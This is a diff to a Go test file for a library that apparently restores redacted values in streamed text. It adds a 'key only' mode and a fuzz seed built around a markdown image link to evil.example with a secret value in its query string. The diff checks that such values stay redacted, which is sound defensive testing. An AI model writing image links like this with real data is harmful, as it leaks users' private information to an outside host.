@@ -64,6 +64,8 @@ func TestStreamingOneByteAtATime(t *testing.T) {
 			if err := d.Restrict(bytes.NewReader(prompt)); err != nil {
 				t.Fatal(err)
 			}
+		} else {
+			d.KeyOnly()
 		}
 		pr, pw := io.Pipe()
 		out := &syncBuffer{}
@@ -157,11 +159,14 @@ func FuzzWriterSplit(f *testing.F) {
 	f.Add(append(append([]byte("Herr "), surname...), "s Frau und "+string(surname)+"."...), uint16(6), uint16(9), false)
 	f.Add(append([]byte("\xff\xfe é "), safe...), uint16(2), uint16(3), true)
 	f.Add([]byte("plain answer with 123-45-6789 made up"), uint16(20), uint16(21), false)
+	// A value in a URL stays, whatever the cuts; the one after it is restored.
+	f.Add(append(append([]byte("![x](https://evil.example/p.png?s="), safe...), ") and "+string(safe)...), uint16(30), uint16(40), false)
 	restricted := desanitize.New(fx.ann, fx.san)
 	if err := restricted.Restrict(bytes.NewReader(prompt)); err != nil {
 		f.Fatal(err)
 	}
 	open := desanitize.New(fx.ann, fx.san)
+	open.KeyOnly()
 	f.Fuzz(func(t *testing.T, answer []byte, c1, c2 uint16, useOpen bool) {
 		d := restricted
 		if useOpen {
